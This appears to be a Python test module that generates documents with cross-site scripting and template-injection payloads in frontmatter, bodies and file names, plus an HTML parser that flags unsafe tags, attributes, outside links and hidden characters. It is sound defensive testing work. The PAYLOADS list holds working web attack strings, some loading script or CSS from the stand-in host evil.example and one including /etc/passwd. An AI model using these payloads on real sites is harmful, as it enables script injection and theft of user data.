"""Hostile documents: what strangers write, in each place where a document has text; and a judge of pages."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser
from typing import NamedTuple

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "'><iframe src=javascript:alert(1)></iframe>",
    "</title></style></textarea><script src=//evil.example/x.js></script>",
    "</code></pre><body onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&colon;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1)) <javascript:alert(1)>",
    "![pixel](https://evil.example/pixel.png) ![x](//evil.example/y.svg)",
    "[a]: https://evil.example/\" onmouseover=\"alert(1)\n[a] [b](https://evil.example/'onclick='x 'title')",
    "safe\u202egpj.exe\u2066 \u200bhidden\u2069 \U000e0041\x1b[31m",
    "{{ 7*7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %>",
    "<math><mtext></table></math><style>@import '//evil.example/x.css';*{display:none}</style>",
    "<a href=//evil.example ping=//evil.example>x</a><base href=//evil.example><meta http-equiv=refresh content=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
)
# Where a payload is put: a field of the frontmatter, or a place in the body.
FIELDS = ("title", "project", "git_branch", "url", "tags", "source")
BODIES = {
    "text": "{0}",
    "turn": "## [1] user · 2026-03-12 09:14\n\n{0}\n\n## [2] assistant · 2026-03-12 09:15\n\n{0}\n",
    "call": "## [1] assistant · 2026-03-12 09:15\n\n- Bash: {1}  # {1}\n  ! {1}\n- Edit: {1}\n\n### reasoning\n\n{0}\n",
    "command": "## [1] command · 2026-03-12 09:15\n\n- ! {1}\n",
    "fence": "```html\n{0}\n```\n\n~~~{1}\n{0}\n~~~\n",
    "diff": "```diff\n-{1}\n+{1}\n```\n",
    "table": "| a | b |\n|---|---|\n| {1} | {1} |\n",
    "heading": "# {1}\n\n> {1}\n\n1. {1}\n",
    "code": "    {1}\n\n`{1}` ``{1}``\n",
}


class Case(NamedTuple):
    """One document: ``name`` for reports, its file's ``path``, frontmatter and body."""

    name: str
    path: str
    meta: dict[str, str]
    body: str


def cases() -> Iterator[Case]:
    """Yield a document for each payload in each place, and with each payload in its file's name."""
    for number, payload in enumerate(PAYLOADS):
        flat = " ".join(payload.split())
        for field in FIELDS:
            yield Case(f"{field}: {flat}", f"{number}-{field}.md", {field: payload}, "anchor harmless")
        for place, form in BODIES.items():
            yield Case(f"{place}: {flat}", f"{number}-{place}.md", {}, "anchor\n\n" + form.format(payload, flat))
        name = flat.replace("/", "⁄").replace("\x1b", "")
        yield Case(f"path: {flat}", f"{number} {name}.md", {}, "anchor harmless")


OURS = frozenset(
    """
    html head meta title link script body a header nav main form label input button div h1 h2 h3 h4 h5 h6 ol ul li p
    span code pre blockquote mark aside section article dl dt dd details summary table thead tbody tr th td time em
    strong s textarea select option br hr kbd figure figcaption svg rect path text
    dialog small
    """.split()
)
_ATTRIBUTES = frozenset(
    """
    lang charset name content href rel type src defer class id for action method role value placeholder autocomplete
    spellcheck maxlength autofocus hidden title tabindex dir datetime open start target colspan scope viewbox x y width
    height rx d data-copy data-of data-path data-states rows required selected text-anchor
    """.split()
)
_HIDDEN = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\x1b\U000e0041"


class Judge(HTMLParser):
    """Collects as ``faults`` whatever of a page could run, load, leave or deceive."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = [f"hidden {each!r}" for each in _HIDDEN if each in page]
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in OURS:
            self.faults.append(f"<{tag}>")
        for name, value in given.items():
            if name not in _ATTRIBUTES and not name.startswith("aria-"):
                self.faults.append(f"<{tag} {name}>")
            if name in ("href", "src", "action"):
                self._check_address(tag, value, given)
        if tag in ("script", "link") and not (given.get("src") or given.get("href", "")).startswith("/static/"):
            self.faults.append(f"<{tag}> from elsewhere")

    def _check_address(self, tag: str, value: str, given: dict[str, str]) -> None:
        if value.startswith(("http://", "https://", "mailto:")):
            if tag != "a" or "noreferrer" not in given.get("rel", ""):
                self.faults.append(f"<{tag}> leaves with a referrer: {value}")
        elif value.startswith("//") or not value.startswith(("/", "#")):
            self.faults.append(f"<{tag}> leads to {value}")
